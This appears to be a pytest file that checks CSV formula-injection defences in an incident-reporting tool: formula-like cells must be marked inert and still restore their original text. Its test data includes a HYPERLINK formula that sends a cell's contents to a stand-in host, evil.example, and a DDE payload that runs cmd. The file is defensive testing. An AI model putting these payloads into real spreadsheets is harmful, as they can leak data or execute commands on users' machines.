"""SEC-34: no cell of a CSV report is a formula, and what stood in it comes back."""

from pathlib import Path

import pytest

from incidents.services.incident_notes import write_note
from soar.core.actor import Actor
from soar.core.csv_cells import MARK, inert_cell
from tests.incidents.reported import add_site, fill, lines_of_report
from tests.incidents.stored import store

__all__ = ["store"]
FORMULAS = [
    "=1+1",
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",
    "'=1+1",
    '=HYPERLINK("https://evil.example?x="&A1,"x")',
    "=cmd|' /C calc'!A0",
]
RISKY = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


@pytest.mark.parametrize("text", FORMULAS)
def test_sec_34_a_formula_is_text_and_comes_back(text: str) -> None:
    cell = inert_cell(text)
    assert cell.startswith(MARK)
    assert cell.removeprefix(MARK) == text


@pytest.mark.parametrize("text", ["", "plain", "a=b", "it's", "10.0.0.1", "1-2"])
def test_sec_34_other_texts_stay_as_they_are(text: str) -> None:
    assert inert_cell(text) == text


def test_sec_34_no_cell_of_a_report_is_a_formula(as_administrator: Actor, store: Path) -> None:
    fill(as_administrator, FORMULAS[0])
    for text in FORMULAS:
        write_note(as_administrator, 1, title=text)
    add_site(as_administrator, FORMULAS[0])
    cells = [cell for line in lines_of_report(as_administrator) for cell in line.values()]
    assert not [cell for cell in cells if cell.lstrip().startswith(RISKY) or cell[:1] in RISKY]
    restored = {cell.removeprefix(MARK) for cell in cells}
    assert {text.strip() for text in FORMULAS} <= {text.strip() for text in restored}
